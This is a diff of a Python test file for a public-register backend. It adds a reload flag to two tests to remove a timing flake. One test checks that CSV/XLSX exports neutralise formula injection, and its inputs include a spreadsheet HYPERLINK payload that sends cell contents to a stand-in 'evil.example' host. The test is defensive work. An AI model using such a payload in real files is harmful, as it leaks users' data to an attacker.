@@ -253,6 +253,9 @@ def test_the_open_data_file_holds_no_formula_for_a_spreadsheet_to_run_R_P2(
     spreadsheet reads as a formula (= + - @, or a tab or CR first) starts with an apostrophe,
     as the .xlsx registers write such text as text."""
     api = backend_api  # on either store
+    # Reload the register at once when it moves (the server reloads it in the background,
+    # and a read right after the last publish could miss it: a flake seen once).
+    api.client.app.state.public_fresh = True  # type: ignore[attr-defined]
     titles = ['=HYPERLINK("http://evil.example/?d="&A1,"点击")', "@SUM(1+1)", "-2+3", "关于=的建议"]
     for n, title in enumerate(titles):
         case_id, reply_id = issued(api, f"+CSV-{n}", title=title)
@@ -272,6 +275,7 @@ def test_a_merge_reply_lists_and_is_found_by_every_case_it_answers_R_M1(backend_
     it by their own number and found 共 0 份答复, and the primary's row named none of the
     others."""
     api = backend_api
+    api.client.app.state.public_fresh = True  # type: ignore[attr-defined]
     cases = [registered(api, n) for n in ("PM-1", "PM-2", "PM-3")]
     ok(api.post("/v1/merges", {"case_ids": cases, "occurred_on": "2025-03-01"}, "office"))
     reply_issued(api, cases[0], "FIN", "A")
